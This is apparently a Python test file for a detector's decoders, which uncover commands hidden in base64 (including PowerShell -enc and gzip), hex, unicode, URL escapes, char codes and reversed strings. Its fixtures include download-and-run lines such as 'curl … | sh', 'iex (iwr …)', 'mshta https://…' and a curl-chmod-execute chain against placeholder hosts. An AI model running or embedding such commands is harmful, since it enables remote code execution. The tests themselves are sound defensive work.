"""Decoders reveal hidden text; they never accept noise as text."""

import base64
import gzip
import json
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from app.detection.decoders import (
    _B64,
    _HEX_ESCAPES,
    DECODERS,
    MAY_DECODE,
    MIN_PRINTABLE,
    _b64_runs,
    bytes_to_text,
    decode_base64,
    decode_char_codes,
    decode_hex,
    decode_reversed,
    decode_unicode_escapes,
    decode_url_escapes,
    printable_ratio,
    readable,
)


def b64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def test_encoded_command_utf16le() -> None:
    blob = b64("iex (iwr https://evil.test/a)", "utf-16-le")
    assert list(decode_base64(f"powershell -enc {blob}")) == ["iex (iwr https://evil.test/a)"]


def test_truncated_utf16_base64_still_decodes() -> None:
    decoded = list(decode_base64("powershell.exe -enc JABsAGwAPQBAACgAMgAyADMALAAyAD"))
    assert decoded and decoded[0].startswith("$ll=@(")


def test_gzip_inside_base64() -> None:
    blob = base64.b64encode(gzip.compress(b"curl https://evil.test/x | sh")).decode()
    assert "curl https://evil.test/x | sh" in list(decode_base64(blob))


def test_base64_wrapped_into_lines_is_read_whole() -> None:
    command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
    blob = b64(command)
    lines = [blob[i : i + 76] for i in range(0, len(blob), 76)]
    assert len(lines) >= 2
    for newline in ("\n", "\r\n", "\n    "):
        assert command in list(decode_base64(newline.join(lines)))


def test_a_block_read_whole_is_not_read_again_line_by_line() -> None:
    command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
    lines = [b64(command)[i : i + 64] for i in range(0, len(b64(command)), 64)]
    assert len(lines) >= 2 and len(lines[0]) == 64  # 48 bytes a line: each line reads alone
    assert list(decode_base64("\n".join(lines))) == [command]
    # a payload found by the line (the block's lines read as text one by one, but the block
    # does not: its last line is not base64 of text) is still found
    junk = base64.b64encode(bytes(range(128, 176))).decode()
    assert len(junk) == 64
    found = list(decode_base64(lines[0] + "\n" + junk))
    assert b64(command[:48]) == lines[0] and command[:48] in found
    # two commands each encoded whole, of one width by chance: the block's reading glues them
    # into one word ('...x.shcurl'), so each is still read alone
    first, second = (
        "curl -fsSL https://a.example.test/abc/x.sh",
        "curl -fsSL https://b.example.test/abc/y.sh",
    )
    assert len(b64(first)) == len(b64(second)) == 56 and not b64(first).endswith("=")
    found = list(decode_base64(b64(first) + "\n" + b64(second)))
    assert found == [first + second, first, second]


def test_lines_of_different_lengths_are_not_one_block() -> None:
    command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
    blob = b64(command)
    ragged = "\n".join([blob[:44], blob[44:100], blob[100:]])  # 44 then 56: no wrapping width
    assert command not in list(decode_base64(ragged))


def test_hex_digests_and_plain_words_are_not_base64() -> None:
    digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    assert list(decode_base64(digest)) == []
    assert list(decode_base64("internationalization")) == []


def test_binary_noise_is_rejected() -> None:
    assert bytes_to_text(bytes(range(256))) is None


def test_char_codes() -> None:
    assert list(decode_char_codes("String.fromCharCode(99,117,114,108)")) == ["curl"]
    assert list(decode_char_codes("[char]105+[char]101+[char]120+[char]32")) == ["iex "]
    assert list(decode_char_codes("ports 8080, 8081, 8082, 8083")) == []


def test_hex_and_unicode_and_url_escapes() -> None:
    assert list(decode_hex(r"\x63\x75\x72\x6c")) == ["curl"]
    assert list(decode_unicode_escapes(r"\u0065\u0076\u0061\u006c")) == ["eval"]
    assert list(decode_url_escapes("%6D%73%68%74%61")) == ["mshta"]


def test_letters_escaped_between_plain_ones_are_read_in_the_whole_text() -> None:
    # no run of escapes is long enough to be the address; the whole text read is
    hidden = "mshta %68tt%70s://o%62ad.w%68it%62ec%6b.invalid/h"
    assert "mshta https://obad.whitbeck.invalid/h" in list(decode_url_escapes(hidden))
    # ordinary escapes (spaces, slashes, UTF-8) are no letters: the runs alone, as before
    query = "https://www.example.com/search?q=hello%20world%21%3F%26&to=%2Fhome"
    assert query.replace("%20", " ") not in list(decode_url_escapes(query))
    assert list(decode_url_escapes("https://ja.example.org/wiki/%E6%9D%B1%E4%BA%AC")) == ["東京"]


def test_reversed_only_with_a_reversal_hint() -> None:
    hidden = "'atv.ssf/tset.live//:sptth athsm'[-1..-100] -join ''"
    assert any("mshta https://evil.test/fss.vta" in d for d in decode_reversed(hidden))
    assert list(decode_reversed("athsm plain text")) == []


# junk as base64 and inflate attempts give it: ASCII, blanks, controls, U+FFFD, surrogates,
# other scripts' letters and unassigned code points, in any mix
_MIXED = st.text(
    st.one_of(
        st.sampled_from("abc XYZ~\t\r\n\x00\x07\x7f\ufffd\u00a0\u200b\u3000"),
        st.characters(codec=None, exclude_categories=()),
    ),
    max_size=80,
)


@given(_MIXED)
def test_readable_is_the_printable_ratio_test(text: str) -> None:
    """The byte counts only settle what the character by character count would."""
    assert readable(text) == (printable_ratio(text) >= MIN_PRINTABLE)


@given(st.binary(max_size=64))
def test_decoded_junk_is_readable_as_counted(data: bytes) -> None:
    text = data.decode("utf-8", errors="replace")
    assert readable(text) == (printable_ratio(text) >= MIN_PRINTABLE)


def test_escaped_surrogate_pairs_are_the_characters_they_stand_for() -> None:
    # JavaScript and JSON write an emoji as two \u escapes; a lone one (a test of an encoder)
    # is no character: U+FFFD, never a string RE2 cannot read
    assert list(decode_unicode_escapes(r"'\ud83d\ude00\u0020\u0069\u0065\u0078'")) == ["😀 iex"]
    (lone,) = decode_unicode_escapes(r'"\udcff\udcfe\u0069\u0065\u0078"')
    assert lone == "\ufffd\ufffdiex"
    lone.encode("utf-8")
    (codes,) = decode_char_codes("String.fromCharCode(55357,105,101,120,32,104,105,106)")
    assert codes == "\ufffdiex hij"


# The runs of base64 are found byte by byte in ASCII text (decoders._b64_runs) and the hex
# escapes by a pattern that starts with a literal: both find exactly what the patterns they
# stand for find, on the edges that matter (a run of 15 or 16, '=' after it, a run cut by a
# character beyond ASCII, three or four escapes in a row).
_RUN_PIECES = ["A" * 15, "B" * 16, "x9+/_-", "=", "==", " ", ".", "é", "\\x4", "\\x41", "\\", "g"]


@given(st.lists(st.sampled_from(_RUN_PIECES), max_size=30).map("".join))
def test_base64_runs_and_hex_escapes_are_found_as_their_patterns_find_them(text: str) -> None:
    assert list(_b64_runs(text)) == [(m.start(), m.end(), m.group(0)) for m in _B64.finditer(text)]
    group_form = re.compile(r"(?:\\x[0-9a-fA-F]{2}){4,}")
    assert [m.span() for m in _HEX_ESCAPES.finditer(text)] == [
        m.span() for m in group_form.finditer(text)
    ]


def test_a_base64_run_is_found_whole_at_sixteen_characters_not_fifteen() -> None:
    assert list(_b64_runs("a " + "Q" * 15 + "= b")) == []
    assert list(_b64_runs("a " + "Q" * 16 + "== b")) == [(2, 20, "Q" * 16 + "==")]
    assert list(_b64_runs("Q" * 16 + "===")) == [(0, 18, "Q" * 16 + "==")]


def test_a_decoder_the_engine_does_not_start_would_have_found_nothing() -> None:
    """MAY_DECODE: a decoder whose need is absent from a text finds nothing there, on every
    case text and on texts that just miss or just meet each need."""
    cases = Path(__file__).parents[2] / "data" / "cases"
    texts = [
        json.loads(line)["text"]
        for path in sorted(cases.glob("*.jsonl"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip()
    ]
    near = [
        "[char]105+[char]101+[char]120",
        "String.fromCharCode(105,101,120)",
        "\\x69\\x65\\x78\\x20\\x69\\x77\\x72",
        "\\u0069\\u0065\\u0078",
        "%69%65%78%20%69%77%72",
        "&#105;&#101;&#120;",
        "'rxe'[-1..-3] -join ''",
        "$k = 0x2a; -bxor $k " + "41" * 16,
        "69657820697772206874747073",
    ]
    checked = 0
    for text in [*texts, *near]:
        for name, may in MAY_DECODE.items():
            if not may(text):
                checked += 1
                assert list(DECODERS[name](text)) == [], (name, text[:200])
    assert checked > 10000
    assert all(any(MAY_DECODE[n](t) for n in MAY_DECODE) for t in near)
